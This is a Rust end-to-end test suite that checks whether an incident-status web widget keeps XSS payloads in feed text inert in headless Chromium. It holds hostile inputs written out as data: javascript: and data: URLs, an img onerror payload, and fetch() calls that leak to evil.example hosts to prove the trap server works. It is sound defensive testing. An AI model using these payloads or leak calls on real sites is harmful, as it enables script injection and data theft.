//! Hostile feed content in headless Chromium: a feed built from the example
//! with an XSS payload (200 public vectors, our canary vectors, bidi and
//! zero-width strings, texts at their limits) in every text field. Proved:
//! no script runs (alert/confirm/prompt/print/open and the canary global are
//! trapped), no element outside the widget's own markup appears, no `on*`
//! attribute anywhere, no request leaves for another host (every host name is
//! resolved to a trap server whose log must stay empty), every link is
//! http(s)/mailto/tel, and every payload is shown literally as text.
//!
//! A feed with unsafe links is refused by the widget's validator: the reader
//! sees the fallback (words and hotline) and no unsafe `href`.

#[path = "../../tests/fixtures/hostile/generator.rs"]
mod generator;

use std::sync::{Arc, Mutex};
use std::time::Duration;

use e2e::browser::{Browser, Options};
use e2e::server::{Response, Server};
use generator::{base, hostile_texts, hostile_urls, Corpus};
use serde_json::{json, Value};

const WAIT: Duration = Duration::from_secs(30);

/// Tags the widget itself renders (and the loader's link, slot and container).
const ALLOWED_TAGS: &[&str] = &[
    "link", "slot", "div", "p", "span", "h2", "h3", "h4", "header", "section", "article", "ul", "ol", "li", "button", "time", "a", "svg", "path", "label",
    // `bdi`: the widget isolates feed text inline with its own words.
    "input", "mark", "bdi",
];

struct Setup {
    server: Server,
    /// Every other host name resolves here: any request it logs left for a host it should not.
    trap: Server,
    feed: Arc<Mutex<Vec<u8>>>,
    browser: Browser,
}

async fn setup() -> Setup {
    let server = Server::start(Some(e2e::dist()));
    let trap = Server::start(None);
    let feed = Arc::new(Mutex::new(Vec::new()));
    let fixtures = e2e::root().join("tests/fixtures");
    {
        let feed = feed.clone();
        server.handle(move |request| {
            let query: std::collections::HashMap<String, String> =
                url::Url::parse(&format!("http://x{}", request.path)).ok()?.query_pairs().map(|(k, v)| (k.into_owned(), v.into_owned())).collect();
            match request.route() {
                "/feed.json" => Some(Response::json(feed.lock().unwrap().clone())),
                "/capture.js" => Some(Response::new(200, "text/javascript", std::fs::read(fixtures.join("capture.js")).ok()?)),
                "/traps.js" => Some(Response::new(200, "text/javascript", std::fs::read(fixtures.join("hostile/traps.js")).ok()?)),
                "/hostile.html" => {
                    let attr = |k: &str, d: &str| {
                        query.get(k).map(String::as_str).unwrap_or(d).replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;").replace('>', "&gt;")
                    };
                    let page = std::fs::read_to_string(fixtures.join("hostile/page.html"))
                        .ok()?
                        .replace("{{MODE}}", &attr("mode", "full"))
                        .replace("{{LANG}}", &attr("lang", "de"))
                        .replace("{{FALLBACK_LINK}}", &attr("fallback", "https://www.waermewerk-rheinland.example/"));
                    Some(Response::new(200, "text/html; charset=utf-8", page))
                }
                _ => None,
            }
        });
    }
    let options = Options { args: vec![format!("--host-resolver-rules=MAP * 127.0.0.1:{}, EXCLUDE 127.0.0.1", trap.port)], ..Options::default() };
    let browser = Browser::with(options).await;
    Setup { server, trap, feed, browser }
}

impl Setup {
    fn serve(&self, feed: &Value) {
        *self.feed.lock().unwrap() = feed.to_string().into_bytes();
    }

    async fn open(&self, query: &str, ready: &str) {
        self.browser.goto(&self.server.url(&format!("/hostile.html?{query}"))).await;
        self.browser
            .wait_for(
                &format!("(() => {{ const r = document.querySelector('incident-status').shadowRoot; return r && r.querySelector({}); }})()", json!(ready)),
                WAIT,
            )
            .await;
    }

    /// Everything the page and the servers saw that must not have happened.
    async fn inert(&self, what: &str) {
        // Time for onerror/onload/autofocus handlers and delayed loads to fire.
        tokio::time::sleep(Duration::from_millis(700)).await;
        let captured = self.browser.js("return window.__captured", vec![]).await;
        assert_eq!(captured["calls"], json!([]), "{what}: script ran: {}", captured["calls"]);
        assert_eq!(captured["canary"], json!(0), "{what}: the canary was written");
        let dom = self
            .browser
            .in_widget(
                r#"const all = [...root.querySelectorAll('*')];
                   const tags = [...new Set(all.map((e) => e.localName))];
                   const handlers = [...document.querySelectorAll('*'), ...all].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.localName} ${a.name}`));
                   const svgs = [...root.querySelectorAll('svg')].filter((s) => !s.classList.contains('is-icon') || s.querySelector(':not(path)')).map((s) => s.outerHTML.slice(0, 200));
                   const links = [...root.querySelectorAll('link')].map((l) => l.href);
                   const hrefs = [...root.querySelectorAll('[href], [src], [srcdoc], [action], [formaction], [data], [xlink\\:href]')]
                     .filter((e) => !(e.localName === 'a' && /^(https?|mailto|tel):/.test(e.getAttribute('href')) && ['http:', 'https:', 'mailto:', 'tel:'].includes(e.protocol)))
                     .filter((e) => !(e.localName === 'a' && /^#[a-z0-9_-]+$/.test(e.getAttribute('href'))))
                     .filter((e) => !(e.localName === 'link' && e.rel === 'stylesheet'))
                     .map((e) => e.outerHTML.slice(0, 200));
                   const outside = [...document.body.querySelectorAll('*')].map((e) => e.localName).filter((t) => !['main', 'incident-status', 'p'].includes(t));
                   return { tags, handlers, svgs, links, hrefs, outside, anchors: root.querySelectorAll('a[href]').length };"#,
            )
            .await;
        let tags: Vec<&str> = dom["tags"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
        let foreign: Vec<&&str> = tags.iter().filter(|t| !ALLOWED_TAGS.contains(t)).collect();
        assert!(foreign.is_empty(), "{what}: elements outside the widget's markup in the shadow root: {foreign:?}");
        assert_eq!(dom["handlers"], json!([]), "{what}: on* attributes");
        assert_eq!(dom["svgs"], json!([]), "{what}: an svg that is not one of the widget's state icons");
        assert_eq!(dom["links"].as_array().unwrap().len(), 1, "{what}: link elements {}", dom["links"]);
        assert!(dom["links"][0].as_str().unwrap().ends_with("/incident-status.css"), "{what}: {}", dom["links"]);
        assert_eq!(dom["hrefs"], json!([]), "{what}: URL attributes that are not http(s)/mailto/tel links or in-widget anchors");
        assert_eq!(dom["outside"], json!([]), "{what}: elements appeared in the host page");
        // Requests: only to the test server, for the bundle, the page and the feed.
        // Chromium's own background requests (network time, sign-in,
        // autofill, optimisation hints; seen over TLS by their SNI names) go
        // to Google hosts whatever the page does; they are not the page's.
        let chromium_own = |host: &str| {
            let host = host.split(':').next().unwrap_or("");
            ["google.com", "googleapis.com", "gvt1.com", "gstatic.com", "google"].iter().any(|d| host == *d || host.ends_with(&format!(".{d}")))
        };
        let trapped: Vec<_> = self.trap.requests().into_iter().filter(|r| !chromium_own(r.header("host").unwrap_or(""))).collect();
        assert!(
            trapped.is_empty(),
            "{what}: requests to other hosts: {:?}",
            trapped.iter().map(|r| format!("{} {} {}", r.method, r.header("host").unwrap_or(""), r.path)).collect::<Vec<_>>()
        );
        // The bundle's files include the FAQ search the widget loads after its first paint.
        let allowed = [
            "/hostile.html",
            "/capture.js",
            "/traps.js",
            "/incident-status.js",
            "/incident-status_bg.wasm",
            "/incident-status.css",
            "/incident-status-search.wasm",
            "/feed.json",
        ];
        for r in self.server.requests() {
            assert!(allowed.contains(&r.route()), "{what}: unexpected request {} {}", r.method, r.path);
        }
        let origin = self.server.origin();
        let resources = self.browser.js("return performance.getEntriesByType('resource').map((e) => e.name)", vec![]).await;
        for name in resources.as_array().unwrap() {
            let name = name.as_str().unwrap();
            assert!(name.starts_with(&origin), "{what}: resource from elsewhere: {name}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn payloads_in_every_text_field_stay_text() {
    let corpus = Corpus::load(&e2e::root());
    let (feed, placed) = hostile_texts(&base(&e2e::root()), &corpus.payloads);
    assert!(feed["faq"].as_array().unwrap().len() > 16, "no payload entries were added");
    let s = setup().await;
    s.serve(&feed);
    let mut covered = std::collections::HashSet::new();
    for lang in ["de", "en"] {
        s.open(&format!("lang={lang}"), ".is-header").await;
        // Open everything, and search for payloads (matches get marked):
        // first show the questions after the first ones, then (rendered
        // by the next call) open every question.
        s.browser
            .in_widget(
                "root.querySelector('.is-expand-all').click(); const more = root.querySelector('.is-show-more-questions'); if (more) more.click(); return true",
            )
            .await;
        s.browser.in_widget("root.querySelectorAll('.is-faq-entry .is-toggle').forEach((b) => b.click()); return true").await;
        s.inert(&format!("full {lang}")).await;
        let shown: Vec<&str> = placed.iter().filter(|(slot, _)| slot.shown_in(lang)).map(|(_, t)| t.as_str()).collect();
        assert!(shown.len() > 60, "{}", shown.len());
        covered.extend(shown.iter().map(|t| t.to_string()));
        let missing = s
            .browser
            .in_widget(&format!("const text = root.textContent; return {}.filter((t) => !text.includes(t));", serde_json::to_string(&shown).unwrap()))
            .await;
        assert_eq!(missing, json!([]), "{lang}: payloads not shown literally");
        for query in ["<script>", "onerror=alert(1)", "javascript:", "\u{202e}", "__canary"] {
            s.browser
                .in_widget(&format!(
                    "const input = root.querySelector('input[type=search]'); input.value = {}; input.dispatchEvent(new Event('input', {{ bubbles: true }})); return true",
                    json!(query)
                ))
                .await;
            // The search loads after the first paint: wait for its answer (a count).
            s.browser
                .wait_for(
                    "(() => { const c = document.querySelector('incident-status').shadowRoot.querySelector('.is-search__count'); return c && /^[0-9]/.test(c.textContent); })()",
                    Duration::from_secs(25),
                )
                .await;
            tokio::time::sleep(Duration::from_millis(150)).await;
            s.inert(&format!("full {lang}, search {query:?}")).await;
        }
        s.open(&format!("lang={lang}&mode=compact"), ".is-compact").await;
        s.browser.in_widget("root.querySelector('.is-more').click(); return true").await;
        s.inert(&format!("compact {lang}")).await;
    }
    // Between the two languages, every payload was shown and found literally.
    let unseen: Vec<&String> = corpus.payloads.iter().filter(|p| !covered.contains(*p)).collect();
    assert!(unseen.is_empty(), "payloads never shown: {unseen:#?}");
    s.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_feed_with_unsafe_links_is_refused_and_no_unsafe_href_appears() {
    let corpus = Corpus::load(&e2e::root());
    let s = setup().await;
    for url in corpus.urls.iter().step_by(3) {
        let (feed, _) = hostile_urls(&base(&e2e::root()), url);
        s.serve(&feed);
        s.open("lang=de", ".is-fallback__message, .is-header").await;
        let state = s.browser.in_widget("return { header: !!root.querySelector('.is-header'), text: root.querySelector('.is-fallback__message') && root.querySelector('.is-fallback__message').textContent, tel: !!root.querySelector('a[href=\"tel:+498005501234\"]') }").await;
        assert_eq!(state["header"], json!(false), "{url:?}: a feed with unsafe links was shown");
        assert!(state["text"].as_str().is_some_and(|t| !t.is_empty()), "{url:?}: no fallback message: {state}");
        assert_eq!(state["tel"], json!(true), "{url:?}: the fallback hotline is missing");
        s.inert(&format!("feed with {url:?}")).await;
    }
    // The embedder's fallback link is checked the same way.
    for url in [
        "javascript:window.__canary=1",
        " JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/",
        "https://bank.example@evil.example/",
    ] {
        s.serve(&json!({ "not": "a feed" }));
        s.open(&format!("fallback={}", url::form_urlencoded::byte_serialize(url.as_bytes()).collect::<String>()), ".is-fallback__phone").await;
        let links = s.browser.in_widget("return [...root.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'))").await;
        assert_eq!(links, json!(["tel:+498005501234"]), "fallback-link {url:?}");
        s.inert(&format!("fallback-link {url:?}")).await;
    }
    s.browser.close().await;
}

/// The traps themselves: a payload that is parsed as HTML (as the widget
/// never does) is caught by them, so their silence above means something.
#[tokio::test(flavor = "multi_thread")]
async fn the_traps_catch_a_payload_that_runs() {
    let s = setup().await;
    s.serve(&base(&e2e::root()));
    s.open("lang=de", ".is-header").await;
    s.browser
        .in_widget("root.querySelector('.is-headline').insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.__canary=1; alert(2)\">'); return true")
        .await;
    s.browser.wait_for("window.__captured.canary > 0", WAIT).await;
    let calls = s.browser.js("return window.__captured.calls", vec![]).await;
    assert_eq!(calls, json!(["__canary = 1", "alert(2)"]));
    // Requests that leave for another host reach the trap, over HTTP and
    // HTTPS alike (the latter is seen by the name in its TLS handshake).
    s.browser
        .js("fetch('http://plain.evil.example/leak', { mode: 'no-cors' }).catch(() => {}); fetch('https://tls.evil.example/leak', { mode: 'no-cors' }).catch(() => {}); return true", vec![])
        .await;
    let deadline = std::time::Instant::now() + WAIT;
    let hosts = loop {
        let hosts: std::collections::BTreeSet<String> = s.trap.requests().iter().filter_map(|r| Some(format!("{} {}", r.method, r.header("host")?))).collect();
        if hosts.iter().any(|h| h.starts_with("TLS tls.evil.example")) && hosts.iter().any(|h| h.starts_with("GET plain.evil.example"))
            || std::time::Instant::now() > deadline
        {
            break hosts;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert!(hosts.contains("TLS tls.evil.example"), "the trap did not see the HTTPS request: {hosts:?}");
    assert!(hosts.contains("GET plain.evil.example"), "the trap did not see the HTTP request: {hosts:?}");
    s.browser.close().await;
}
